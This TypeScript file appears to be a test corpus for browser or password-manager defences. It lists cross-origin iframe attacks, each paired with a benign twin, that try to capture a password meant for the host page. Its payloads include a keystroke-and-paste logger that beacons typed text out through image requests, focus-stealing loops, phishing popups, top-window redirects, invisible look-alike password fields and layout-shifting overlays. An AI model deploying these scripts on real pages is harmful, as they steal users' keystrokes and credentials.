// Pages that want a secret which is meant for another. Each is an honest page with a frame of another site in it, and one
// thing that this frame does; its twin has the same page around a frame that does nothing.

export type Trick = {
  name: string;
  /** Whose frame it is: of another host, or of another port of the same one. */
  from: 'far' | 'near';
  /** What the frame does. `{run}` is the name of the visit, `{far}` and `{near}` are origins. */
  frame: string;
  /** In place of a frame that only has a field. */
  calm?: string;
  sandbox?: string;
  /** What the honest page calls its field, and what a step calls it. */
  label?: string;
  target?: string;
  /** Of the honest page itself. */
  page?: string;
  frameStyle?: string;
  frames?: number;
  /** Pressed by a step before it types. */
  press?: string;
};

/** Tells where it came from whatever it gets. */
export const ear = `<script>
  const tell = (text) => { new Image().src = '/t/{run}?' + encodeURIComponent(text) };
  const hear = () => {
    for (const kind of ['keydown', 'beforeinput', 'input', 'paste', 'compositionupdate'])
      addEventListener(kind, (event) => {
        const text = event.key ?? event.data ?? event.clipboardData?.getData('text') ?? event.target.value;
        if (text && (kind !== 'keydown' || [...text].length === 1)) tell(text);
      }, true);
  };
  hear();
</script>`;

const field = '<input id="p">';
const take = 'window.focus(); p.focus();';
const script = (code: string) => `<script>${code}</script>`;
const every = (ms: number) => script(`setInterval(() => { ${take} }, ${ms})`);
const later = (code: string, ms = 300) => script(`setTimeout(() => { ${code} }, ${ms})`);
const open = (how = '') => `window.open('/phish/{run}'${how})`;

const focusing: Trick[] = [
  { name: 'focus-every-3ms', from: 'far', frame: field + every(3) },
  {
    name: 'focus-without-pause',
    from: 'far',
    frame:
      field +
      script(`const { port1, port2 } = new MessageChannel(); let count = 0;
        port1.onmessage = () => { ${take} count += 1; if (count % 50) port2.postMessage(0); else setTimeout(() => port2.postMessage(0), 1) };
        port2.postMessage(0)`),
  },
  {
    name: 'focus-every-frame',
    from: 'far',
    frame: field + script(`const again = () => { ${take} requestAnimationFrame(again) }; again()`),
  },
  {
    name: 'focus-on-blur',
    from: 'far',
    frame:
      field +
      script(`${take} for (const kind of ['blur', 'focusout']) addEventListener(kind, () => { ${take} }, true)`),
  },
  { name: 'focus-other-port', from: 'near', frame: field + every(3) },
  { name: 'focus-nested', from: 'far', frame: '<iframe src="{near}/thief/{run}" width="30" height="30"></iframe>' },
  {
    name: 'focus-editable',
    from: 'far',
    frame: `<div id="p" contenteditable>x</div>${every(3)}${script("setInterval(() => p.textContent !== 'x' && tell(p.textContent), 100)")}`,
  },
  { name: 'focus-document', from: 'far', frame: script('setInterval(() => window.focus(), 3)') },
  {
    name: 'focus-late',
    from: 'far',
    frame: field + script(`setTimeout(() => setInterval(() => { ${take} }, 40), 300 + Math.random() * 900)`),
  },
  {
    name: 'focus-when-told',
    from: 'far',
    frame: field + script(`addEventListener('message', () => { ${take} })`),
    page: script(`for (const kind of ['focusin', 'input', 'keydown'])
      addEventListener(kind, () => { for (let i = 0; i < frames.length; i++) frames[i].postMessage(kind, '*') }, true)`),
  },
  { name: 'focus-sandboxed', from: 'far', sandbox: 'allow-scripts', frame: field + every(3) },
  { name: 'focus-many', from: 'far', frames: 10, frame: field + every(20) },
  {
    name: 'focus-rewritten',
    from: 'far',
    frame: later(
      `const html = '${field}'; document.open(); document.write(html); document.close(); hear();
      setInterval(() => { window.focus(); document.getElementById('p').focus() }, 3)`,
      50,
    ),
  },
  {
    name: 'focus-new-frames',
    from: 'far',
    frame: field + every(3),
    page: script(
      `setInterval(() => { const one = document.querySelector('iframe'); const next = one.cloneNode(); one.replaceWith(next) }, 400)`,
    ),
  },
  { name: 'focus-unseen', from: 'far', frame: field + every(5), frameStyle: 'width: 1px; height: 1px; opacity: 0' },
];

const popping: Trick[] = [
  { name: 'popup-by-timer', from: 'far', frame: later(open()) },
  { name: 'popup-sandboxed', from: 'far', sandbox: 'allow-scripts allow-popups', frame: later(open()) },
  { name: 'popup-noopener', from: 'far', frame: later(open(`, '_blank', 'noopener'`)) },
  {
    name: 'popup-storm',
    from: 'far',
    frame: script(
      `let count = 0; const timer = setInterval(() => { count += 1; if (count > 4) clearInterval(timer); else ${open()} }, 200)`,
    ),
  },
  {
    name: 'popup-by-stolen-keys',
    from: 'near',
    frame: `${field}${every(3)}${script(`addEventListener('keydown', () => { ${open()} }, { once: true })`)}`,
  },
  {
    name: 'popup-in-place-of-another',
    from: 'far',
    frame: later(open(), 100),
    press: 'Read the notes',
    page: `<button id="notes" style="position: absolute; top: 200px" onclick="window.open('/notes/{run}')">Read the notes</button>`,
  },
];

const taking: Trick[] = [
  {
    name: 'top-sandboxed',
    from: 'far',
    sandbox: 'allow-scripts allow-top-navigation',
    frame: later(`top.location = '{far}/phish/{run}'`),
  },
  {
    name: 'top-other-port',
    from: 'near',
    sandbox: 'allow-scripts allow-top-navigation',
    frame: later(`top.location = '{near}/phish/{run}'`),
  },
  {
    name: 'top-while-typing',
    from: 'far',
    sandbox: 'allow-scripts allow-top-navigation',
    frame: script(`setTimeout(() => { top.location = '{far}/phish/{run}' }, 400 + Math.random() * 1500)`),
  },
];

const exact = (style = '') => `<label>Password <input id="p" type="password" style="${style}"></label>`;
const imitating: Trick[] = [
  { name: 'name-exact', from: 'far', target: 'Password', frame: exact() },
  { name: 'name-exact-other-port', from: 'near', target: 'Password', frame: exact() },
  { name: 'name-unseen', from: 'far', target: 'Password', frame: exact('opacity: 0') },
  {
    name: 'name-tiny',
    from: 'far',
    target: 'Password',
    frame: exact('width: 1px; height: 1px; border: 0; padding: 0'),
  },
];

const grows = `<script>addEventListener('message', ({ data }) => { document.querySelector('iframe').style.cssText += data })</script>`;
const moving: Trick[] = [
  {
    name: 'layout-shifts',
    from: 'far',
    frameStyle: 'position: static; display: block; width: 300px; height: 10px',
    frame: `${exact()}${script(`let tall = false; setInterval(() => { tall = !tall; parent.postMessage(tall ? '; height: 120px' : '; height: 10px', '*') }, 250)`)}`,
    page: `${grows}<style>form { position: relative !important }</style>`,
    calm: field,
  },
  {
    name: 'frame-over-the-field',
    from: 'far',
    frame: `${exact()}${script(`let isOver = false; setInterval(() => { isOver = !isOver;
      parent.postMessage(isOver ? '; top: 20px; left: 0; width: 400px; height: 120px' : '; top: 300px; width: 40px; height: 40px', '*') }, 600)`)}`,
    page: grows,
    calm: field,
  },
];

export const tricks: Trick[] = [...focusing, ...popping, ...taking, ...imitating, ...moving];
